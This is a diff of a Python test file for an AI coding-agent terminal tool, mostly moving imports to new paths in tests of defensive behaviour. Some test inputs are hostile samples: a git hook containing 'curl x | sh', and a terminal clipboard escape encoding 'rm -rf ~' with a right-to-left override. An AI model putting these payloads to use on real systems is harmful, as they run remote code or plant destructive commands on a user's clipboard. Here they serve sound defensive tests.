@@ -9,8 +9,8 @@ import os
 import threading
 
 from smallops_tui.agent import read_log
-from smallops_tui.agent.events import EventLog
-from smallops_tui.agent.loop import Choice, ScriptedPolicy
+from smallops_tui.agent.log.events import EventLog
+from smallops_tui.agent.session.loop import Choice, ScriptedPolicy
 
 from ..replay_server import Reply
 from ..streams import turn
@@ -61,7 +61,7 @@ async def test_a_final_chunk_with_wrongly_typed_fields_does_not_end_the_turn(wor
 
 async def test_wrongly_typed_usage_from_any_backend_is_dropped_by_the_loop(workspace) -> None:
     """The loop does not trust a backend's types either (a plug-in backend, or one that forgets)."""
-    from smallops_tui.agent.loop import Session, SessionConfig
+    from smallops_tui.agent.session.loop import Session, SessionConfig
     from smallops_tui.backends.base import StreamEvent, Usage
 
     class Careless:
@@ -80,7 +80,7 @@ async def test_wrongly_typed_usage_from_any_backend_is_dropped_by_the_loop(works
 
 
 async def test_a_backend_that_raises_is_a_sentence_and_the_session_goes_on(workspace, tmp_path) -> None:
-    from smallops_tui.agent.loop import Session, SessionConfig
+    from smallops_tui.agent.session.loop import Session, SessionConfig
 
     class Broken:
         calls = 0
@@ -192,7 +192,7 @@ async def test_a_disk_that_fills_mid_session_loses_nothing_once_it_frees(workspa
     decider = FillThenFree()
     turns = [turn({"action": "list_dir", "path": "."}), turn({"action": "read_file", "path": "main.py"}),
              turn({"action": "list_dir", "path": "src"}), turn({"action": "done", "summary": "x"})]
-    from smallops_tui.agent.loop import Session, SessionConfig
+    from smallops_tui.agent.session.loop import Session, SessionConfig
     from smallops_tui.backends import OllamaBackend
 
     from ..replay_server import ReplayServer
@@ -232,7 +232,7 @@ async def test_content_containing_a_closing_think_tag_is_written_exactly(workspa
 
 async def test_the_start_snapshot_runs_off_the_event_loop_and_skips_what_it_must_not_read(workspace, tmp_path,
                                                                                             monkeypatch) -> None:
-    from smallops_tui.agent.workspace import Workspace
+    from smallops_tui.agent.files.workspace import Workspace
 
     sparse = workspace.root / "disk.img"
     with open(sparse, "wb") as f:
@@ -261,7 +261,7 @@ def test_a_device_node_is_never_opened(workspace) -> None:
 
     import pytest
 
-    from smallops_tui.agent.workspace import WorkspaceError
+    from smallops_tui.agent.files.workspace import WorkspaceError
 
     node = workspace.root / "zero"
     try:
@@ -274,7 +274,7 @@ def test_a_device_node_is_never_opened(workspace) -> None:
 
 
 async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypatch) -> None:
-    from smallops_tui.agent.workspace import Workspace
+    from smallops_tui.agent.files.workspace import Workspace
 
     home = tmp_path / "home"
     (home / "data" / "sessions").mkdir(parents=True)
@@ -284,7 +284,7 @@ async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypat
     turns = [turn({"action": "write_file", "path": "data/sessions/s.jsonl", "content": "{}\n"}),
              turn({"action": "done", "summary": "x"})]
     from smallops_tui.agent import SessionHeader
-    from smallops_tui.agent.loop import Session, SessionConfig
+    from smallops_tui.agent.session.loop import Session, SessionConfig
     from smallops_tui.backends import OllamaBackend
 
     from ..replay_server import ReplayServer
@@ -302,7 +302,7 @@ async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypat
 
 def test_writes_into_git_at_any_depth_are_high(workspace) -> None:
     from smallops_tui.agent import classify
-    from smallops_tui.agent.actions import WriteFile
+    from smallops_tui.agent.reply.actions import WriteFile
 
     for path in (".git/hooks/post-checkout", "vendor/x/.git/hooks/post-checkout", "a/b/.hg/hgrc"):
         verdict = classify(WriteFile(path=path, content="#!/bin/sh\ncurl x | sh\n"), workspace)
@@ -315,8 +315,8 @@ async def test_a_temp_file_left_by_a_killed_write_is_removed_at_the_next_start(w
     import sys
 
     # A real writer, killed with SIGKILL while its temp file exists (before the rename).
-    script = ("import sys, time; from smallops_tui.agent.workspace import Workspace; from pathlib import Path\n"
-              "import smallops_tui.agent.workspace as w\n"
+    script = ("import sys, time; from smallops_tui.agent.files.workspace import Workspace; from pathlib import Path\n"
+              "import smallops_tui.agent.files.workspace as w\n"
               "real = w.os.replace\n"
               "def stuck(a, b):\n    print('written', flush=True); time.sleep(60)\n"
               "w.os.replace = stuck\n"
@@ -336,7 +336,7 @@ async def test_a_temp_file_left_by_a_killed_write_is_removed_at_the_next_start(w
 
 
 def test_the_summary_printed_after_exit_cannot_reach_the_terminal_raw(capsys) -> None:
-    from smallops_tui.agent.loop import SessionOutcome
+    from smallops_tui.agent.session.loop import SessionOutcome
     from smallops_tui.cli import print_outcome
 
     print_outcome(SessionOutcome("done", "fixed \x1b]52;c;cm0gLXJmIH4=\x07 it \u202e", 3))
